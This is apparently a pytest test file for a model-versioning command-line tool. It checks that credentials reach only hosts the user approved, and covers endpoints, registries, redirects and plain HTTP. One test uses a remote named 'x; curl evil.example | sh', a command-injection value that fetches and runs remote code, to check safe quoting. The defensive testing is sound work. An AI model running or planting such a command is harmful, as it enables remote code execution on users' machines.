"""Credentials go only where the person said: by typing it, with `remote trust`, or in the environment.

The hosts here are other addresses of this machine, which stand for hosts of strangers; nothing may arrive there.
"""

from __future__ import annotations

import os
import pwd
import socket
from pathlib import Path
from typing import Any

import fsspec
import pytest

import mvc
from mvc import errors
from mvc.repository.repository import Repository
from mvc.storage.records.promised import PROMISED
from tests.cli.shell import MODEL, Shell, begin
from tests.servers.scripted import Reply, Scripted, scripted
from tests.trust.conftest import CANARY, given, seen

STORES = {
    "s3": ("s3://bucket/x", {"endpoint": "{url}"}),
    "gs": ("gs://bucket/x", {"endpoint": "{url}"}),
    "az": ("az://models/x", {"endpoint": "{host}"}),
    "az-account": ("az://models/x", {"account": "evilaccount"}),
    "sftp": ("sftp://ana@{host}/srv/x", {}),
}
"""By kind an address and settings that lead to the host `{host}`."""


@pytest.fixture
def silence(monkeypatch: Any) -> list[object]:
    """The hosts that this process looked up or connected to; none is reached."""
    asked: list[object] = []

    def refuse(*arguments: object, **_: object) -> None:
        asked.append(arguments)
        raise OSError("no network here")

    for name in ("connect", "connect_ex"):
        monkeypatch.setattr(socket.socket, name, refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    return asked


def hostile(shell: Shell, evil: Scripted, kind: str) -> None:
    """Have the repository's settings lead to the stranger's host."""
    url, options = STORES[kind]
    filled = {key: value.format(url=evil.url, host=evil.host) for key, value in options.items()}
    given(shell, "origin", url.format(host=evil.host), **filled)


@pytest.mark.parametrize("kind", sorted(STORES))
def test_a_host_that_the_repository_chose_is_not_reached(
    shell: Shell, evil: Scripted, silence: list[object], kind: str
) -> None:
    hostile(shell, evil, kind)
    for verb in (
        ("push",), ("fetch",), ("pull",), ("remote", "check", "origin"), ("fsck", "--remote", "origin"),
        ("gc", "--remote", "origin"), ("push", "origin", "--delete", "main"),
    ):  # fmt: skip
        said = shell(*verb)
        if said.code == 2:  # of what was never seen there
            continue
        assert (said.code, said.out) == (12, ""), (verb, said)
        assert "`mvc remote trust origin`" in said.err, said
        host = "evilaccount.blob.core.windows.net" if kind == "az-account" else evil.host
        assert f"credentials to {host}, which you have not approved" in said.err, said
    assert silence == []
    assert evil.asked == []


@pytest.mark.parametrize(
    "verb", [("publish",), ("drift",), ("import", "picsellia://acme/x"), ("remote", "check", "reg")]
)
def test_a_registry_that_the_repository_chose_gets_no_token(
    shell: Shell, evil: Scripted, silence: list[object], verb: tuple[str, ...]
) -> None:
    given(shell, "reg", "picsellia://acme", host=evil.url)
    said = shell(*verb)
    assert (said.code, said.out) == (12, ""), said
    assert f"make reg send your credentials to {evil.host}" in said.err
    assert "`mvc remote trust reg`" in said.err
    assert silence == []
    assert shell(*verb, "--json").err.count('"kind": "host-not-trusted"') == 1
    assert evil.asked == []


def test_a_remotes_name_is_no_command_to_copy(shell: Shell, evil: Scripted) -> None:
    given(shell, "x; curl evil.example | sh", "s3://bucket/x", endpoint=evil.url)
    assert "`mvc remote trust 'x; curl evil.example | sh'`" in shell("fetch", "x; curl evil.example | sh").err
    assert "'x; curl evil.example | sh'" in shell("remote", "set-url", "x; curl evil.example | sh", "s3://bucket/y").err


# --- ways to approve


def test_typing_it_approves_it_for_this_host_and_port_alone(shell: Shell, evil: Scripted) -> None:
    shell.ok("remote", "add", "reg", "picsellia://acme", "-o", f"host={evil.url}")
    assert shell("remote", "check", "reg").code == 12
    assert CANARY in seen(evil), "approved by typing it"
    with scripted("127.0.0.2") as other:
        given(shell, "reg", "picsellia://acme", host=other.url)
        said = shell("remote", "check", "reg")
        assert (said.code, f"{other.host}, which you have not approved" in said.err) == (12, True)
        assert other.asked == [], "the settings were changed by hand after the approval"


def test_an_approval_is_the_persons_and_not_the_repositorys(
    shell: Shell, evil: Scripted, tmp_path: Path, monkeypatch: Any
) -> None:
    shell.ok("remote", "add", "reg", "picsellia://acme", "-o", f"host={evil.url}")
    assert "host" not in (shell.folder / ".mvc" / "config.toml").read_text().split("[remote.reg]")[0]
    monkeypatch.setenv("MVC_CONFIG", str(tmp_path / "ben.toml"))
    assert "which you have not approved" in shell("publish").err
    assert evil.asked == []


def test_a_repository_cannot_approve_its_own_hosts(shell: Shell, evil: Scripted) -> None:
    given(shell, "reg", "picsellia://acme", host=evil.url)
    config = shell.repository.config
    config._set_table(("host", evil.host), {"trust": "picsellia s3", "token-env": "AWS_SECRET_ACCESS_KEY"})
    config._set_table(("remote", "reg"), {"url": "picsellia://acme", "host": evil.url, "token-env": "PICSELLIA_TOKEN"})
    assert "which you have not approved" in shell("publish").err
    assert evil.host not in "".join(each for each in shell.ok("config", "-l").lines if each.startswith("host."))
    for key in (f"host.{evil.host}.trust", "remote.reg.token-env"):
        said = shell("config", key, "picsellia")
        assert (said.code, "only --global can set it" in said.err) == (2, True), said
    assert evil.asked == []


def test_remote_trust_approves_and_withdraws(shell: Shell, evil: Scripted) -> None:
    given(shell, "reg", "picsellia://acme", host=evil.url)
    assert shell.ok("remote", "-v").lines == [f"reg  picsellia://acme  picsellia  {evil.host} not approved"]
    assert shell.ok("remote", "show", "reg", "--json").json["trust"] == {
        "host": evil.host, "default_host": False, "approved": False, "encrypted": False, "usable": False,
    }  # fmt: skip
    assert shell.ok("remote", "trust", "reg").lines == [
        f"Approved: {evil.host} for picsellia credentials without encryption."
    ]
    assert shell.ok("remote", "-v").lines == [f"reg  picsellia://acme  picsellia  {evil.host} approved"]
    assert "denied access" in shell("remote", "check", "reg").err
    assert CANARY in seen(evil)
    evil.asked.clear()
    assert shell.ok("remote", "trust", "reg", "--remove").lines == [
        f"Not approved: {evil.host} for picsellia credentials."
    ]
    assert "which you have not approved" in shell("remote", "check", "reg").err
    assert shell("remote", "trust", "nowhere").code == 2
    assert shell("remote", "trust", "reg", "--remove", "--insecure").code == 2
    assert evil.asked == []


def test_an_approval_for_one_kind_is_none_for_another(shell: Shell, evil: Scripted) -> None:
    shell.ok("remote", "add", "bucket", "s3://bucket/x", "-o", f"endpoint={evil.url}")
    given(shell, "reg", "picsellia://acme", host=evil.url)
    assert "which you have not approved" in shell("publish").err
    shell.ok("remote", "trust", "reg")
    shell.ok("remote", "trust", "bucket", "--remove")
    assert "not approved" in shell.ok("remote", "show", "bucket").out
    assert "not approved" not in shell.ok("remote", "show", "reg").out
    assert evil.asked == []


@pytest.mark.parametrize("trusted", ["{host}", "http://{host}", "a.example,{name}:*"])
def test_the_environment_approves_where_nobody_types(
    shell: Shell, evil: Scripted, monkeypatch: Any, trusted: str
) -> None:
    given(shell, "reg", "picsellia://acme", host=evil.url)
    monkeypatch.setenv("MVC_TRUSTED_HOSTS", trusted.format(host=evil.host, name=evil.host.partition(":")[0]))
    assert "denied access" in shell("remote", "check", "reg").err
    assert CANARY in seen(evil)
    monkeypatch.setenv("MVC_TRUSTED_HOSTS", "ana@evil.example")
    said = shell("remote", "check", "reg")
    assert (said.code, "'ana@evil.example' for MVC_TRUSTED_HOSTS" in said.err) == (2, True), said


def test_the_persons_own_settings_of_a_remote_need_no_approval(shell: Shell, evil: Scripted) -> None:
    given(shell, "reg", "picsellia://acme")
    shell.ok("config", "--global", "remote.reg.host", evil.url)
    assert "denied access" in shell("remote", "check", "reg").err
    assert CANARY in seen(evil)
    with scripted("127.0.0.2") as other:
        given(shell, "reg", "picsellia://acme", host=other.url)
        assert "which you have not approved" in shell("remote", "check", "reg").err
        assert other.asked == []


def test_set_url_approves_what_is_typed_and_not_what_stays(shell: Shell, evil: Scripted, silence: list[object]) -> None:
    given(shell, "origin", "s3://bucket/x", endpoint=evil.url)
    said = shell.ok("remote", "set-url", "origin", "s3://bucket/y")
    assert f"{evil.host} is not approved for your credentials; approve it with `mvc remote trust origin`" in said.err
    assert shell("push").code == 12
    given(shell, "origin", "sftp://models.example/x", port="2222")
    shell.ok("remote", "set-url", "origin", "sftp://models.example/y")
    assert "models.example:2222, which you have not approved" in shell("push").err
    assert silence == []
    shell.ok("remote", "set-url", "origin", "s3://bucket/y", "-o", f"endpoint={evil.url}")
    assert f"{evil.host} approved" in shell.ok("remote", "-v").out


def test_a_setting_of_the_repository_is_no_approval(shell: Shell, evil: Scripted) -> None:
    shell.ok("remote", "add", "reg", "picsellia://acme")
    shell.ok("config", "remote.reg.host", evil.url)
    assert "which you have not approved" in shell("publish").err
    shell.ok("config", "remote.reg.host", "https://ana@evil.example")
    assert shell.ok("remote", "-v").lines == ["reg  picsellia://acme  picsellia  invalid settings"]
    assert (shell("remote", "trust", "reg").code, shell("publish").code) == (2, 2)
    assert evil.asked == []


def test_without_a_home_an_approval_is_for_the_run_alone(shell: Shell, monkeypatch: Any, silence: list[object]) -> None:
    for name in ("MVC_CONFIG", "HOME", "XDG_CONFIG_HOME"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr(pwd, "getpwuid", {}.__getitem__)
    shell.ok("remote", "add", "origin", "sftp://models.example/x")
    said = shell("fetch")
    assert (said.code, "MVC_TRUSTED_HOSTS=models.example" in said.err, silence) == (12, True, [])
    said = shell("remote", "trust", "origin")
    assert (said.code, "there is no home folder" in said.err) == (2, True)


def test_providers_own_hosts_need_no_approval(shell: Shell, tmp_path: Path) -> None:
    for number, url in enumerate(("s3://bucket/x", "gs://bucket/x", "az://models/x", "picsellia://acme", "../there")):
        shell.ok("remote", "add", f"r{number}", url)
        assert shell.ok("remote", "show", f"r{number}", "--json").json["trust"]["usable"]
    assert not (tmp_path / "home" / "mvc.toml").exists()
    assert not Path(os.environ["MVC_CONFIG"]).exists(), "nothing had to be kept"
    assert shell.ok("remote", "trust", "r0").lines == ["r0 needs no approval: its settings name no host."]
    shell.ok("remote", "add", "account", "az://models/x", "-o", "account=teamvision")
    assert "teamvision.blob.core.windows.net approved" in shell.ok("remote", "-v").out


# --- what chooses among credentials


@pytest.mark.parametrize(
    ("url", "options"),
    [
        ("s3://bucket/x", {"profile": "admin"}),
        ("gs://bucket/x", {"key_file": "/home/ana/other.json"}),
        ("sftp://models.example/x", {"key_file": "/home/ana/.ssh/other"}),
        ("sftp://models.example/x", {"known_hosts": "known_hosts"}),
    ],
)
def test_a_repository_does_not_choose_among_credentials(
    shell: Shell, silence: list[object], monkeypatch: Any, url: str, options: dict[str, str]
) -> None:
    monkeypatch.setenv("MVC_TRUSTED_HOSTS", "models.example")
    given(shell, "origin", url, **options)
    said = shell("push")
    (option,) = (key.replace("_", "-") for key in options)
    assert (said.code, said.out) == (12, ""), said
    assert f"origin sets {option}=" in said.err
    assert "would select the credentials that" in said.err
    assert "not approved" in shell.ok("remote", "-v").out
    assert silence == []
    assert option in shell.ok("remote", "trust", "origin").out
    assert "not approved" not in shell.ok("remote", "-v").out
    given(shell, "origin", url, **{key: f"{value}2" for key, value in options.items()})
    assert shell("push").code == 12


# --- plain http


def test_plain_http_elsewhere_is_refused_until_it_is_accepted(shell: Shell, silence: list[object]) -> None:
    added = shell.ok("remote", "add", "lan", "s3://bucket/x", "-o", "endpoint=http://minio.lan:9000")
    assert "accept it with `mvc remote trust lan --insecure`" in added.err
    assert "minio.lan:9000 approved, plain http refused" in shell.ok("remote", "-v").out
    said = shell("push", "lan")
    assert (said.code, "over unencrypted HTTP" in said.err, silence) == (12, True, [])
    assert "`mvc remote trust lan --insecure`" in said.err
    shell.ok("remote", "trust", "lan")
    assert shell("push", "lan").code == 12
    shell.ok("remote", "trust", "lan", "--insecure")
    assert shell("push", "lan").code == 15
    assert silence, "it is reached now"


def test_a_registry_by_plain_http_is_refused_until_it_is_accepted(
    shell: Shell, silence: list[object], monkeypatch: Any, tmp_path: Path
) -> None:
    typed = ("-o", "host=http://picsellia.lan")
    shell.ok("remote", "add", "reg", "picsellia://acme", *typed)
    for verb in (("publish",), ("import", "picsellia://acme/x", *typed), ("clone", "picsellia://acme/x", "c", *typed)):
        said = shell(*verb)
        assert (said.code, "over unencrypted HTTP" in said.err) == (12, True), said
        assert "picsellia.lan:80" in said.err
    assert silence == []
    assert not (shell.folder / "c").exists()
    monkeypatch.setattr("time.sleep", lambda _: None)
    monkeypatch.setenv("MVC_TRUSTED_HOSTS", "http://picsellia.lan")
    assert shell("import", "picsellia://acme/x", *typed).code == 15
    assert silence


# --- clone, open, lazy fetches


def test_clone_approves_what_was_typed_and_an_open_does_so_for_itself(
    tmp_path: Path, monkeypatch: Any, evil: Scripted, shell: Shell
) -> None:
    assert "which you have not approved" not in shell("clone", "s3://bucket/x", "c", "-o", f"endpoint={evil.url}").err
    assert CANARY in seen(evil)
    given(shell, "origin", "s3://bucket/x", endpoint=evil.url)
    assert f"{evil.host} approved" in shell.ok("remote", "-v").out
    shell.ok("remote", "trust", "origin", "--remove")
    evil.asked.clear()
    given(shell, "ssh", f"sftp://{evil.host}/x")
    with pytest.raises(errors.RemoteUnreachable):
        mvc.open(f"sftp://{evil.host}/x")
    assert "not approved" in shell.ok("remote", "show", "ssh").out, "it was approved for that call alone"
    with pytest.raises(errors.HostNotTrusted):
        mvc.open(shell.folder).remote("ssh").fetch()


def test_a_lazy_fetch_asks_no_host_that_was_not_approved(
    tmp_path: Path, monkeypatch: Any, shell: Shell, evil: Scripted, silence: list[object]
) -> None:
    shell.write("w.bin", b"weights" * 50_000)
    shell.ok("add", "w.bin", "--as", "weights")
    shell.commit("weights")
    shell.ok("remote", "add", "origin", "../there")
    shell.ok("push")
    shell.ok("clone", "--meta", "../there", "../ben")
    shell.folder = tmp_path / "ben"
    assert shell.repository.door.names(PROMISED)
    given(shell, "origin", "s3://bucket/x", endpoint=evil.url)
    shell.ok("status")
    shell.ok("log")
    for verb in (
        ("cat", "v2:weights"),
        ("restore", "weights"),
        ("export", "v2", "../out"),
        ("pull",),
    ):
        said = shell(*verb)
        assert (said.code, "`mvc remote trust origin`" in said.err) == (12, True), (verb, said)
    files = fsspec.filesystem("mvc", repo=str(shell.folder), skip_instance_cache=True)
    with pytest.raises(errors.FetchDenied, match="which you have not approved"):
        files.cat_file(f"{MODEL}@v2/weights")
    assert silence == []


# --- the settings file


def test_approving_keeps_the_rest_of_the_persons_settings(shell: Shell) -> None:
    own = Path(os.environ["MVC_CONFIG"])
    own.write_text('# mine\n[user]\nname = "Ana"  # that is me\n')
    shell.ok("remote", "add", "lan", "s3://bucket/x", "-o", "endpoint=https://minio.lan")
    text = own.read_text()
    assert text.startswith('# mine\n[user]\nname = "Ana"  # that is me\n')
    shell.ok("remote", "add", "reg", "picsellia://acme", "-o", "host=https://minio.lan")
    assert shell.ok("config", "user.name").out.strip() == "Ana"
    assert sorted(Repository(shell.folder, user_config=own).config.hosts()["minio.lan"]["trust"]) == ["picsellia", "s3"]


def test_where_the_approval_cannot_be_kept_nothing_changes(shell: Shell, tmp_path: Path, monkeypatch: Any) -> None:
    (tmp_path / "file").write_text("")
    monkeypatch.setenv("MVC_CONFIG", str(tmp_path / "file" / "mvc.toml"))
    said = shell("remote", "add", "lan", "s3://bucket/x", "-o", "endpoint=https://minio.lan")
    assert said.code == 128
    assert str(tmp_path / "file") in said.err
    assert shell.ok("remote").out == ""
    monkeypatch.setenv("MVC_TRUSTED_HOSTS", "minio.lan")
    shell.ok("remote", "add", "lan", "s3://bucket/x", "-o", "endpoint=https://minio.lan")


@pytest.mark.parametrize("text", ['[host."a/b"]\ntrust="s3"', "host = 1", "[host]\nx = 1", '[host."h"]\ntrust = 1',
                                  '[host."h"]\ninsecure = "perhaps"', '[host."h"]\ntoken-env = "a b"'])  # fmt: skip
def test_settings_of_hosts_that_are_none_are_refused(shell: Shell, text: str) -> None:
    Path(os.environ["MVC_CONFIG"]).write_text(text)
    given(shell, "origin", "s3://bucket/x")
    said = shell("fetch")
    assert (said.code, os.environ["MVC_CONFIG"] in said.err) == (2, True), said


def test_python_says_the_same(tmp_path: Path, shell: Shell, evil: Scripted) -> None:
    given(shell, "reg", "picsellia://acme", host=evil.url)
    environ = {"MVC_CONFIG": str(tmp_path / "own.toml"), "PICSELLIA_TOKEN": CANARY}
    reg = mvc.open(shell.folder, environ=environ).remote("reg")
    with pytest.raises(errors.HostNotTrusted) as caught:
        reg.check()
    assert caught.value.exit_code == 12
    assert not reg.settings.standing.usable  # type: ignore[union-attr]
    assert reg.trust().standing.usable  # type: ignore[union-attr]
    with pytest.raises(errors.RegistryDenied):
        reg.check()
    assert CANARY in seen(evil)
    assert not reg.distrust().standing.usable  # type: ignore[union-attr]


def test_another_repository_of_the_same_host_needs_no_second_approval(
    shell: Shell, evil: Scripted, tmp_path: Path, monkeypatch: Any
) -> None:
    shell.ok("remote", "add", "reg", "picsellia://acme", "-o", f"host={evil.url}")
    (tmp_path / "two").mkdir()
    two = begin(tmp_path / "two", monkeypatch)
    given(two, "other", "picsellia://beta", host=evil.url)
    assert f"{evil.host} approved" in two.ok("remote", "-v").out


# --- redirects


@pytest.mark.parametrize("status", [301, 302, 307, 308])
def test_a_redirect_to_another_host_carries_no_token(shell: Shell, evil: Scripted, status: int) -> None:
    with scripted() as hers:
        hers.reply = lambda asked: Reply(status, {"Location": f"{evil.url}{asked.path}"})
        shell.ok("remote", "add", "reg", "picsellia://acme", "-o", f"host={hers.url}")
        shell.ok("remote", "add", "bucket", "s3://bucket/x", "-o", f"endpoint={hers.url}")
        assert shell("remote", "check", "reg").code
        said = shell("fetch", "bucket")
        assert (said.code, "it redirects to another address" in said.err) == (12, True), said
        assert CANARY in seen(hers)
    assert CANARY not in seen(evil)
    assert not [each for each in evil.asked if each.path.startswith("/bucket")], "S3 is not followed at all"
